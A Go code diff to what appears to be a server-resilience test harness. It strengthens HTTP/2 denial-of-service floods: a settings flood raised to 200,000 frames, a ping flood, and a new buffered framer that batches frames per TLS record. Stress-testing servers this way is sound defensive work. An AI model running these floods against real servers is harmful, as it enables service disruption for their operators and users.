@@ -1,6 +1,7 @@
 package abuse
 
 import (
+	"bufio"
 	"bytes"
 	"crypto/tls"
 	"errors"
@@ -34,7 +35,7 @@ func http2Attacks() []Attack {
 			once: flood(func(f *http2.Framer) error { return f.WritePing(false, [8]byte{}) }),
 		},
 		{
-			Name: "HTTP/2: settings without end, no answer read", Does: "served: one acknowledgement is owed at a time", Meter: target.Accepted, like: manySettings / 10, secure: true,
+			Name: "HTTP/2: settings without end, no answer read", Does: "served: one acknowledgement is owed at a time", Meter: target.Accepted, like: manySettings / 50, secure: true,
 			clients: 4, once: settings,
 		},
 		{
@@ -56,6 +57,13 @@ func (a *attacker) speak() (net.Conn, *http2.Framer, error) {
 	}
 	f := http2.NewFramer(conn, conn)
 	return conn, f, f.WriteSettings()
+}
+
+// pack is a framer for conn that sends as many frames at once as a record of TLS holds: a client that sends each for itself is kept busy as
+// much as the server.
+func pack(conn net.Conn) *http2.Framer {
+	const record = 16 << 10
+	return http2.NewFramer(bufio.NewWriterSize(conn, record), nil)
 }
 
 // headers is a block of fields for a path.
@@ -173,16 +181,17 @@ func continuations(a *attacker) error {
 }
 
 // manySettings is how many frames a round of settings has.
-const manySettings = 20_000
+const manySettings = 200_000
 
 // settings writes frames of settings and reads nothing. net/http owes one acknowledgement for all that came since the last one, so that no
-// queue gets full: each frame costs what it sends, which is less than a tenth of a request.
+// queue gets full: each frame costs what it sends, which is less than a twentieth of a request.
 func settings(a *attacker) error {
 	conn, f, err := a.speak()
 	if err != nil {
 		return err
 	}
 	defer func() { _ = conn.Close() }()
+	f = pack(conn)
 	for n := 0; n < manySettings && a.ctx.Err() == nil; n++ {
 		if err := f.WriteSettings(); err != nil {
 			return nil // given up, as it may be
@@ -202,6 +211,7 @@ func flood(write func(f *http2.Framer) error) func(a *attacker) error {
 		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: headers("/ping?nonce=a"), EndHeaders: true}); err != nil {
 			return err
 		}
+		f = pack(conn)
 		for n := 0; a.ctx.Err() == nil; n++ {
 			if n > 20_000_000 {
 				return errors.New("20 million frames were taken")
